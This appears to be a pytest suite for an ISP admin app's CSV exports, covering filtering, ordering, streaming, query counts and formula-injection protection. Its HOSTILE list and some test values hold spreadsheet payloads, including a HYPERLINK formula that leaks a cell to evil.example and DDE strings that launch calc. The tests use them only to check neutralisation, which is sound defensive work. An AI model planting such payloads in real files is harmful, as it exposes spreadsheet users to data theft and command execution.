"""CSV export of the staff lists: every row the filter matches (not one page), in the list's order, streamed from a
server-side cursor in a constant number of queries, formula-safe, UTF-8 with a byte order mark, amounts as decimals
and dates in ISO 8601 — on PostgreSQL and on SQLite (`make run`)."""
from __future__ import annotations

import csv
import io
from datetime import UTC, date, datetime, timedelta
from decimal import Decimal

import pytest
from flask_migrate import upgrade
from sqlalchemy import event

from isp_admin import create_app
from isp_admin.extensions import db
from isp_admin.services.billing import payments as payment_service
from isp_admin.services.platform.clock import today
from isp_admin.services.platform.csv_export import BOM, cell, money
from tests.conftest import ROOT, FreshContextClient, app_config, is_postgres
from tests.factories import PASSWORD, CustomerFactory, PlanFactory, SubscriptionFactory, UserFactory
from tests.web.test_lists import issued

HOSTILE = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)",
           "\tTAB", "\rCR"]


def read_csv(response) -> list[list[str]]:
    body = response.get_data(as_text=True)
    assert body.startswith(BOM)  # Excel reads UTF-8 only with it
    return list(csv.reader(io.StringIO(body[1:])))


# --- the cells ----------------------------------------------------------------------------------------------------

@pytest.mark.parametrize(("value", "text"), [
    ("=1+1", "'=1+1"), ("+44 20", "'+44 20"), ("-x", "'-x"), ("@cmd", "'@cmd"), ("\tx", "'\tx"), ("\rx", "'\rx"),
    ("a=b", "a=b"), ("O'Brien", "O'Brien"), ("", ""), (None, ""), (True, "yes"), (0, "0"),
    (money(-150), "-1.50"), (money(2500), "25.00"), (money(5), "0.05"), (Decimal("-3"), "-3"),
    (date(2026, 2, 28), "2026-02-28"), (datetime(2026, 2, 28, 9, 5, 7, tzinfo=UTC), "2026-02-28T09:05:07Z"),
])
def test_a_cell_is_text_a_spreadsheet_never_runs_and_numbers_stay_numbers(value, text):
    assert cell(value) == text


# --- customers ----------------------------------------------------------------------------------------------------

def test_the_customer_export_has_every_matching_row_in_the_lists_order_not_one_page(client, login):
    login("readonly")
    plan = PlanFactory(name="Fibre 50")
    for n in range(60):
        customer = CustomerFactory(name=f"Member {n:02d}", status=("active", "suspended")[n % 3 == 0])
        SubscriptionFactory(customer=customer, plan=plan, pppoe_username=f"member{n:02d}")
    db.session.commit()
    page = client.get("/customers/?status=active&sort=-name&size=10")
    assert "40 matching customers" in page.get_data(as_text=True)

    response = client.get("/customers/export.csv?status=active&sort=-name&size=10&page=3")
    assert response.status_code == 200
    assert response.content_type == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"].startswith('attachment; filename="customers-')
    rows = read_csv(response)
    assert rows[0][:3] == ["Account", "Name", "Email"]
    names = [r[1] for r in rows[1:]]
    assert names == sorted((f"Member {n:02d}" for n in range(60) if n % 3), reverse=True)  # all 40, any page
    first = dict(zip(rows[0], rows[1], strict=True))
    assert first["Status"] == "active" and first["Services"] == "Fibre 50 (member59, active)"
    assert first["Created at"].endswith("Z") and "T" in first["Created at"]


def test_formula_cells_are_neutralised_in_the_customer_export(client, login):
    login("readonly")
    for text in HOSTILE:
        CustomerFactory(name=text, phone=text[:40], service_address=text)
    db.session.commit()
    rows = read_csv(client.get("/customers/export.csv?sort=account"))
    header = rows[0]
    for row in rows[1:]:
        record = dict(zip(header, row, strict=True))
        for column in ("Name", "Phone", "Service address"):
            assert record[column].startswith("'"), record[column]
            assert any(text.startswith(record[column][1:]) for text in HOSTILE), record[column]


def test_a_bad_filter_on_an_export_is_a_400_not_a_500(client, login):
    login("readonly")
    assert client.get("/customers/export.csv?sort=password").status_code == 400
    assert client.get("/invoices/export.csv?overdue_days=7-9").status_code == 400
    assert client.get("/payments/export.csv?received_from=2026-02-31").status_code == 400


# --- invoices and payments ----------------------------------------------------------------------------------------

def test_the_invoice_export_follows_the_filter_with_decimal_amounts_and_iso_dates(client, login):
    login("readonly")
    customer = CustomerFactory(name="=cmd|' /C calc'!A0", account_number="C00000777")
    late = issued(customer, 45, cents=123456)
    issued(customer, 3, cents=999)
    payment_service.record_payment(customer.id, 6, "cash", today(), today(), invoice_id=late.id)
    db.session.commit()

    rows = read_csv(client.get("/invoices/export.csv?overdue_days=31-60"))
    assert len(rows) == 2
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["Number"] == late.number and record["Account"] == "C00000777"
    assert record["Customer"] == "'=cmd|' /C calc'!A0"
    assert (record["Total"], record["Paid"], record["Balance"]) == ("1234.56", "0.06", "1234.50")
    assert record["Due"] == (today() - timedelta(days=45)).isoformat()
    assert record["Issued"] == late.issue_date.isoformat()


def test_the_payment_export_covers_the_dashboards_date_range(client, login):
    login("readonly")
    customer = CustomerFactory()
    for days in range(8):
        payment_service.record_payment(customer.id, 100 * (days + 1), "bank_transfer",
                                       today() - timedelta(days=days), today(), reference=f"@ref{days}")
    db.session.commit()
    start, end = today() - timedelta(days=5), today() - timedelta(days=1)
    rows = read_csv(client.get(f"/payments/export.csv?received_from={start}&received_to={end}&sort=received"))
    header = rows[0]
    records = [dict(zip(header, r, strict=True)) for r in rows[1:]]
    assert [r["Received"] for r in records] == [(today() - timedelta(days=d)).isoformat() for d in (5, 4, 3, 2, 1)]
    assert [r["Amount"] for r in records] == ["6.00", "5.00", "4.00", "3.00", "2.00"]
    assert all(r["Reference"].startswith("'@ref") for r in records)


# --- streamed, in constant queries --------------------------------------------------------------------------------

def export_queries(app, client, query_counter, url: str) -> tuple[int, int]:
    """The statements an export ran, and its rows."""
    with app.app_context(), query_counter() as statements:
        response = client.get(url)
        rows = read_csv(response)
    return len(statements), len(rows) - 1


@pytest.mark.parametrize("url", ["/customers/export.csv", "/customers/export.csv?reason=manual",
                                 "/invoices/export.csv?status=open", "/payments/export.csv?sort=received"])
def test_an_export_runs_the_same_queries_for_three_rows_or_sixty(app, client, login, query_counter, url):
    login("readonly")
    plan = PlanFactory()

    def add(n: int) -> None:
        for _ in range(n):
            customer = CustomerFactory()
            SubscriptionFactory(customer=customer, plan=plan, status="suspended", suspension_reason="manual")
            issued(customer, -5, cents=700)
            payment_service.record_payment(customer.id, 100, "cash", today(), today())
        db.session.commit()

    add(3)
    small = export_queries(app, client, query_counter, url)
    add(57)
    large = export_queries(app, client, query_counter, url)
    assert (small[1], large[1]) == (3, 60)
    assert small[0] == large[0] <= 2, (small, large)  # the signed-in user, then the rows (one statement)


def test_the_export_is_streamed_in_chunks_from_a_server_side_cursor(app, client, login):
    login("readonly")
    for n in range(450):
        CustomerFactory(name=f"Streamed {n:03d}")
    db.session.commit()
    cursors = []

    def record(_conn, cursor, statement, *_args):
        if "FROM customers" in statement and "ORDER BY" in statement:
            cursors.append(type(cursor).__name__)

    event.listen(db.engine, "before_cursor_execute", record)
    try:
        response = client.get("/customers/export.csv", buffered=False)
        assert response.is_streamed
        chunks = list(response.response)
        response.close()
    finally:
        event.remove(db.engine, "before_cursor_execute", record)
    assert len(chunks) >= 4  # the header, then 200 lines at a time: sent as they are read
    assert sum(chunk.count(b"\r\n") for chunk in chunks) == 451
    if is_postgres():
        assert cursors == ["ServerCursor"]  # rows are fetched from the database in batches, not all at once


# --- SQLite (make run) --------------------------------------------------------------------------------------------

@pytest.fixture
def sqlite_client(tmp_path):
    app = create_app(app_config(f"sqlite:///{tmp_path}/isp.sqlite3", None, tmp_path / "instance"))
    app.test_client_class = FreshContextClient
    with app.app_context():
        upgrade(directory=str(ROOT / "migrations"))
        UserFactory(email="desk@isp.example", role="readonly")
        db.session.commit()
        client = app.test_client()
        assert client.post("/login", data={"email": "desk@isp.example", "password": PASSWORD}).status_code == 302
        yield client
        db.session.remove()
        db.engine.dispose()


def test_the_exports_work_on_sqlite(sqlite_client):
    plan = PlanFactory(name="Home 10")
    customer = CustomerFactory(name="@Sqlite Sam")
    SubscriptionFactory(customer=customer, plan=plan, pppoe_username="sam.one")
    SubscriptionFactory(customer=customer, plan=plan, pppoe_username=None, status="suspended",
                        suspension_reason="non_payment")
    issued(customer, 20, cents=2599)
    db.session.commit()

    rows = read_csv(sqlite_client.get("/customers/export.csv?status=active&reason=non_payment"))
    record = dict(zip(rows[0], rows[1], strict=True))
    assert record["Name"] == "'@Sqlite Sam"
    assert sorted(record["Services"].split("; ")) == ["Home 10 (no login, suspended)", "Home 10 (sam.one, active)"]
    rows = read_csv(sqlite_client.get("/invoices/export.csv?overdue_days=1-30"))
    assert [dict(zip(rows[0], r, strict=True))["Balance"] for r in rows[1:]] == ["25.99"]
    page = sqlite_client.get("/invoices/?overdue_days=1-30&sort=issued").get_data(as_text=True)
    assert "1 matching invoice" in page
    page = sqlite_client.get("/customers/?reason=non_payment&sort=-name&page=1").get_data(as_text=True)
    assert "1 matching customer" in page and "@Sqlite Sam" in page and "Page 1 of 1" in page
